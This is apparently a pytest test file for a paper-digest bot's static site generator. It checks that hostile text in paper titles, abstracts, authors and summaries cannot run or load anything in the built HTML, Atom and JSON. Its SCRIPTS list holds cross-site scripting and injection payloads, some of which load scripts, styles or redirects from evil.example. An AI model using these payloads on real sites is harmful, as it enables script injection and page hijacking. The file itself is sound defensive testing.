"""Script in texts of papers, on every page of a site as it lies on a disk, read as a browser reads it."""

import json
from dataclasses import replace
from pathlib import Path

import pytest
from lxml import etree

from bot.digest.extract import summarise_extractive
from bot.digest.links import find_links
from bot.model import AnnounceType, Brief, BriefItem, Receipt
from bot.store.announcements import AnnouncementStore
from bot.store.briefs import BriefStore
from bot.store.engine import Database
from bot.texts import Sentence
from tests.site.site_world import FIRST, build, files_of
from tests.store.samples import TUESDAY, make_fetched, make_paper, save
from tests.unit.render.samples import BAIT
from tests.unit.web.html_checks import check_page

SCRIPTS = (
    "<script>alert(1)</script>",
    "</title></head><body><script src=//evil.example/x.js></script>",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    '"onload="alert(1)',
    "' onmouseover='alert(1)",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<style>@import 'https://evil.example/x.css'</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    r"$\href{javascript:alert(1)}{x}$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}{% include 'x' %}",
)


async def save_hostile(db: Database, texts: tuple[str, ...]) -> None:
    """Store an announcement and a brief, each paper of which has a text of these wherever strangers write."""
    papers = [
        make_paper(
            f"2605.{number:05d}",
            title=f"Study {number} {text}",
            abstract=f"{text}. We study {text}. It gains {number} %.",
            authors=(text, "Ann Lee"),
            comment=text,
            journal_ref=text,
            doi=text,
        )
        for number, text in enumerate(texts)
    ]
    await save(AnnouncementStore(db), make_fetched(papers, announced_on=TUESDAY))
    items = []
    for place, (paper, text) in enumerate(zip(papers, texts, strict=True)):
        summary = replace(
            summarise_extractive(paper), text=text, key_takeaways=(Sentence(text, (0,)),), producer=f"model {text}"
        )
        items.append(BriefItem(paper, AnnounceType.NEW, place, 1.0, (), summary, find_links(paper)))
    await BriefStore(db).save_summaries([item.summary for item in items])
    count = len(items)
    receipt = Receipt(count, count, count, count, 0)
    await BriefStore(db).save_brief(Brief(FIRST, TUESDAY, "en", receipt, tuple(items), ()))


@pytest.mark.fault("X4")
async def test_no_page_runs_or_loads_anything_that_a_paper_brought(sqlite_url: str, tmp_path: Path) -> None:
    """`check_page`: only our elements and attributes, no handler, no address but http(s), the policy, valid HTML."""
    async with Database.open(sqlite_url) as db:
        await save_hostile(db, (*SCRIPTS, *(text for text in BAIT if "\ud800" not in text and "\x00" not in text)))
        await build(db, tmp_path / "site")
    files = files_of(tmp_path / "site")
    pages = {name: content for name, content in files.items() if name.endswith(".html")}
    # A page for each paper in both languages, and the brief, the day, the topic.
    assert len(pages) > 2 * len(SCRIPTS)
    read = ""
    for content in pages.values():
        root = check_page(content)
        for script in root.xpath("//script"):
            assert (script.text or "").strip() == ""
            assert "//" not in script.get("src")
        for loaded in root.xpath("//img/@src | //link/@href | //form/@action"):
            assert "evil" not in loaded
            assert "javascript:" not in loaded
        assert not root.xpath("//base | //iframe | //object | //meta[@http-equiv='refresh']")
        read += root.text_content()
    # It is there to be read, as the text that it is.
    assert "<script>alert(1)</script>" in read
    for name, content in files.items():
        if name.endswith((".atom", ".xml")):
            etree.fromstring(content, etree.XMLParser(resolve_entities=False, no_network=True))
        elif name.endswith(".json"):
            json.loads(content)
